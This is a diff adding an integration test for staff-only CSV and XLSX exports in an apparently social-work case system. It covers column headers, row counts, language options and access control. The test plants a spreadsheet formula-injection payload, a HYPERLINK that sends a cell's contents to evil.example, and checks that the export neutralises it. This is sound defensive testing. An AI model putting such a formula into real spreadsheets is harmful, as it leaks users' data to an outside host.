@@ -3,7 +3,7 @@ import { request as httpRequest } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { CSRF_HEADER } from '@peksos/access';
+import { AccessRole, CSRF_HEADER } from '@peksos/access';
 import { testDatabaseKind } from '@peksos/db/testing';
 import { TEST_PASSWORD, startTestServer, type TestServer } from './testing/test-server.js';
 
@@ -52,6 +52,50 @@ describe(`the web surface in production (${testDatabaseKind()})`, () => {
 
   const post = (body: unknown, headers: Record<string, string> = {}) =>
     fetch(server.graphqlUrl, { method: 'POST', headers: { ...JSON_HEADERS, ...headers }, body: typeof body === 'string' ? body : JSON.stringify(body) });
+
+  it('serves the cases and professional roles as CSV and XLSX from the server, formula cells neutralised, for staff only (item 1)', async () => {
+    const [someCase] = await server.systemSql<{ id: string; organisation_id: string }[]>(
+      `SELECT c.id, c.organisation_id FROM social_case c WHERE c.status = 'OPEN' ORDER BY c.reference LIMIT 1`,
+    );
+    const [organisation] = await server.systemSql<{ name: string }[]>('SELECT name FROM organisation WHERE id = $1', [someCase!.organisation_id]);
+    const formula = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
+    await server.systemSql('UPDATE organisation SET name = $2 WHERE id = $1', [someCase!.organisation_id, formula]);
+    try {
+      const response = await server.fetch('/api/export/cases.csv?status=OPEN');
+      expect(response.status).toBe(200);
+      expect(response.headers.get('content-disposition')).toMatch(/filename="peksos-cases-\d{4}-\d{2}-\d{2}\.csv"/);
+      const text = await response.text();
+      const lines = text.replace(/^\uFEFF/, '').trim().split(/\r\n/);
+      expect(lines[0]).toBe('Nomor kasus,Status,Kategori PMKS,Organisasi,Dibuka,Ditutup,Keterlibatan Peksos');
+      const open = await server.query<{ cases: { totalCount: number } }>('{ cases(filter: { status: OPEN }) { totalCount } }');
+      expect(lines).toHaveLength(open.cases.totalCount + 1);
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B2,""x"")"`);
+      expect(text).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
+      const english = await (await server.fetch('/api/export/cases.csv?lang=en')).text();
+      expect(english).toContain('Reference,Status,PMKS category,Organisation');
+      const xlsx = await server.fetch('/api/export/cases.xlsx');
+      expect(xlsx.headers.get('content-type')).toContain('spreadsheetml');
+    } finally {
+      await server.systemSql('UPDATE organisation SET name = $2 WHERE id = $1', [someCase!.organisation_id, organisation!.name]);
+    }
+
+    const roles = await server.fetch('/api/export/professional-roles.csv');
+    expect(roles.status).toBe(200);
+    const roleLines = (await roles.text()).trim().split(/\r\n/);
+    expect(roleLines).toHaveLength(8);
+    expect((await (await server.fetch('/api/export/professional-roles.csv?search=pendidik')).text()).trim().split(/\r\n/)).toHaveLength(2);
+
+    // A bad filter is refused before any byte, naming it; staff only.
+    const bad = await server.fetch('/api/export/cases.csv?status=SHUT');
+    expect(bad.status).toBe(400);
+    expect(await bad.json()).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'status' } });
+    expect((await fetch(`${server.url}/api/export/cases.csv`)).status).toBe(401);
+    const [anyOrganisation] = await server.systemSql<{ id: string }[]>('SELECT id FROM organisation LIMIT 1');
+    const partner = await server.partner([anyOrganisation!.id]);
+    expect((await partner.fetch('/api/export/cases.csv')).status).toBe(403);
+    const viewer = await server.signedInAs(AccessRole.VIEWER);
+    expect((await viewer.fetch('/api/export/professional-roles.csv')).status).toBe(200);
+  });
 
   it('sends the security headers on the console, the API, the printable report and downloads (item 2)', async () => {
     const answers = {
